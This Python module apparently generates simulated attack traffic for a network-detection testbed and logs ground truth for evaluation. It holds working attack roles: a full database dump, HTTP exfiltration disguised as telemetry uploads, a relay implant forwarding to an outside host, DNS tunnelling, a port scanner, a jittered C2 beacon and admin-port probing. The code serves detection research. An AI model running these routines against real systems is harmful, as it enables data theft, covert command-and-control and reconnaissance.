"""The attacks' programs, one role per process (python3 standard library only), run by shop.py.

exfil-http, exfil-stream + relay, dns-tunnel, port-scan, beacon, admin-probe. Each writes
its own measurement (first socket operation, end after its sockets are closed, payload
bytes) to conf["out"]; the orchestrator turns that into ground_truth.json. The
stealthy-exfil implant lives in the orders process (shop.Implant).
"""

import base64
import json
import os
import random
import socket
import threading
import time

import netlib


def db_dump():
    """What an intruder on the database pod reads: every record, as JSON lines (over loopback)."""
    r = netlib.Redis(lambda: ("127.0.0.1", 6379))
    keys = sorted(r.cmd("KEYS", "user:*")) + sorted(r.cmd("KEYS", "item:*"))
    out = []
    for i in range(0, len(keys), 200):
        vals = r.cmd("MGET", *keys[i:i + 200])
        out += [k + b"\t" + (v or b"") for k, v in zip(keys[i:i + 200], vals)]
    return b"\n".join(out) + b"\n"


def paced_chunks(rng, data, rate, period, duration):
    """Yield (due_time_offset, chunk): about rate*period bytes every period seconds."""
    off, k = 0, 0
    while k * period <= duration and off < len(data):
        n = max(1, int(rng.gauss(rate * period, rate * period * 0.08)))
        yield k * period, data[off:off + n]
        off += n
        k += 1


def recv_until_eof(sock, timeout=3.0):
    sock.settimeout(timeout)
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass


def http_post(sock, f, host, path, body, agent, ctype="application/octet-stream", connection="keep-alive"):
    """One HTTP/1.1 POST on an open socket (f: its read file); returns (status line, body)."""
    head = ("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: %s\r\n"
            "Content-Length: %d\r\nConnection: %s\r\n\r\n" % (path, host, agent, ctype, len(body),
                                                                connection)).encode()
    sock.sendall(head + body)
    status = f.readline()
    n = 0
    while True:
        line = f.readline()
        if line in (b"\r\n", b""):
            break
        if line.lower().startswith(b"content-length:"):
            n = int(line.split(b":")[1])
    return status, f.read(n)


def role_exfil_http(conf):
    """Direct exfiltration: the database pod POSTs its records to the attacker's sink."""
    rng = random.Random("%s/exfil" % conf["seed"])
    data = db_dump()
    start = time.time()
    s = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
    f = s.makefile("rb")
    sent = reqs = 0
    for due, chunk in paced_chunks(rng, data, conf["rate"], conf["period"], conf["duration"]):
        time.sleep(max(0.0, start + due - time.time()))
        http_post(s, f, conf["dst_ip"], "/api/v2/telemetry/upload", chunk, "python-requests/2.31.0")
        sent += len(chunk)
        reqs += 1
    s.shutdown(socket.SHUT_WR)
    recv_until_eof(s)
    s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "requests": reqs})


def role_exfil_stream(conf):
    """First hop of the multi-hop exfiltration: the database pod streams records to an
    implant listening on a new port of a catalogue pod."""
    rng = random.Random("%s/stream" % conf["seed"])
    data = db_dump()
    start = time.time()
    s = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
    sent = 0
    for due, chunk in paced_chunks(rng, data, conf["rate"], conf["period"], conf["duration"]):
        time.sleep(max(0.0, start + due - time.time()))
        s.sendall(chunk)
        sent += len(chunk)
    s.shutdown(socket.SHUT_WR)
    recv_until_eof(s, timeout=15)  # the relay closes after flushing to the attacker
    s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent})


def role_relay(conf):
    """Implant on a catalogue pod: accepts one stream and relays it to attacker:8443 by HTTP POST."""
    netlib.exit_on_term()
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((conf["bind"], conf["listen_port"]))
    ls.listen(1)
    c, peer = ls.accept()
    accepted = time.time()
    buf = bytearray()
    lock = threading.Lock()
    done = threading.Event()
    received = 0

    def reader():
        nonlocal received
        while True:
            d = c.recv(65536)
            if not d:
                break
            with lock:
                buf.extend(d)
                received += len(d)
        done.set()

    threading.Thread(target=reader, daemon=True).start()
    up = None
    f = None
    forwarded = reqs = 0
    first_up = None
    while True:
        finished = done.wait(conf["period"])
        with lock:
            chunk = bytes(buf)
            buf.clear()
        if chunk:
            if up is None:
                first_up = time.time()
                up = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
                f = up.makefile("rb")
            http_post(up, f, "sync.cdn-sync.net", "/v1/blob", chunk, "curl/8.5.0")
            forwarded += len(chunk)
            reqs += 1
        if finished and not buf:
            break
    if up is not None:
        up.shutdown(socket.SHUT_WR)
        recv_until_eof(up)
        up.close()
    c.close()  # tells the sender everything was relayed
    end = time.time()
    netlib.write_json(conf["out"], {"accepted": accepted, "first_upstream": first_up, "end": end,
                                    "bytes_in": received, "bytes_out": forwarded, "requests": reqs,
                                    "peer": peer[0]})
    os._exit(0)


def role_dns_tunnel(conf):
    """DNS tunnel: records base32-encoded in query names under t.cdn-sync.net, sent to kube-dns."""
    rng = random.Random("%s/tunnel" % conf["seed"])
    data = db_dump()
    per_q = conf["bytes_per_query"]
    interval = per_q / conf["rate"]
    start = time.time()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    sent = queries = answered = 0
    off = 0
    sid = "%04x" % rng.getrandbits(16)
    while time.time() - start < conf["duration"] and off < len(data):
        due = start + queries * interval
        time.sleep(max(0.0, due - time.time()))
        chunk = data[off:off + per_q]
        enc = base64.b32encode(chunk).decode().rstrip("=").lower()
        labels = [enc[i:i + conf["label_len"]] for i in range(0, len(enc), conf["label_len"])]
        name = ".".join(["%s%05x" % (sid, queries)] + labels + ["t", "cdn-sync", "net"])
        qid = rng.randrange(65536)
        s.sendto(netlib.build_query(qid, name, netlib.QTYPE_A), (conf["dns"], 53))
        off += len(chunk)
        sent += len(chunk)
        queries += 1
        try:
            while True:
                d, _ = s.recvfrom(4096)
                if netlib.parse_message(d)["id"] == qid:
                    answered += 1
                    break
        except (socket.timeout, ValueError):
            pass
    s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "queries": queries,
                                    "answered": answered})


def role_port_scan(conf):
    """TCP connect scan of a few pods, ports shuffled per host, paced to a probe rate."""
    rng = random.Random("%s/scan" % conf["seed"])
    probes = []
    for host in conf["hosts"]:
        ports = list(range(conf["port_lo"], conf["port_hi"] + 1))
        rng.shuffle(ports)
        probes += [(host, p) for p in ports]
    interval = 1.0 / conf["rate"]
    start = time.time()
    open_ports = []
    for k, (host, port) in enumerate(probes):
        time.sleep(max(0.0, start + k * interval - time.time()))
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1.0)
        try:
            if s.connect_ex((host, port)) == 0:
                open_ports.append("%s:%d" % (host, port))
                s.shutdown(socket.SHUT_WR)
                recv_until_eof(s, timeout=1.0)
        except OSError:
            pass
        s.close()
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": 0, "probes": len(probes),
                                    "open": open_ports})


def role_beacon(conf):
    """C2 beacon: a new connection every mean +- jitter seconds, a small POST (host info and
    a sequence number) and a small answer, to the host that also serves the payment API."""
    rng = random.Random("%s/beacon" % conf["seed"])
    hostid = "%032x" % rng.getrandbits(128)
    start = time.time()
    times, sent, recv = [], 0, 0
    while True:
        t = time.time()
        s = socket.create_connection((conf["dst_ip"], conf["dst_port"]), timeout=10)
        times.append(t)
        f = s.makefile("rb")
        body = json.dumps({"h": hostid, "seq": len(times), "u": "orders", "os": "linux/amd64",
                           "pad": "%0*x" % (rng.randint(40, 120), rng.getrandbits(480))}).encode()
        _, answer = http_post(s, f, conf["host"], conf["path"], body, "Mozilla/5.0 (X11; Linux x86_64)",
                              ctype="application/json", connection="close")
        sent += len(body)
        recv += len(answer)
        s.shutdown(socket.SHUT_WR)
        recv_until_eof(s)  # the server closes too (Connection: close); our last ACK goes out first
        s.close()
        gap = conf["mean"] * rng.uniform(1 - conf["jitter"], 1 + conf["jitter"])
        if time.time() + gap - start > conf["duration"]:
            break
        time.sleep(max(0.0, t + gap - time.time()))
    time.sleep(0.2)  # the kernel's last ACKs of the closed connection
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "bytes_in": recv,
                                    "count": len(times), "times": times,
                                    "intervals": [round(b - a, 3) for a, b in zip(times, times[1:])]})


def role_admin_probe(conf):
    """Lateral movement: a compromised pod tries admin, metrics and debug ports of services it
    legitimately calls, a few connections a minute; where one answers it asks for a page."""
    rng = random.Random("%s/probe" % conf["seed"])
    targets = [tuple(t) for t in conf["targets"]]  # (ip, port, path)
    plan = list(targets)
    rng.shuffle(plan)
    while len(plan) < conf["probes"]:
        plan.append(rng.choice(targets))
    start = time.time()
    log, sent = [], 0
    due = start
    for ip, port, path in plan:
        time.sleep(max(0.0, due - time.time()))
        t = time.time()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3.0)
        got, ok = 0, False
        try:
            ok = s.connect_ex((ip, port)) == 0
            if ok:
                req = ("GET %s HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
                       "Connection: close\r\n\r\n" % (path, ip, port)).encode()
                s.sendall(req)
                sent += len(req)
                s.settimeout(3.0)
                while True:
                    d = s.recv(65536)
                    if not d:
                        break
                    got += len(d)
        except OSError:
            pass  # refused connects return an errno; a reset mid-read ends the probe
        s.close()
        log.append({"t": t, "ip": ip, "port": port, "path": path, "open": bool(ok), "bytes_in": got})
        due = t + conf["gap"] * rng.uniform(1 - conf["jitter"], 1 + conf["jitter"])
    time.sleep(0.2)  # the kernel's last ACKs of the closed connection
    end = time.time()
    netlib.write_json(conf["out"], {"start": start, "end": end, "bytes": sent, "probes": len(log), "log": log})
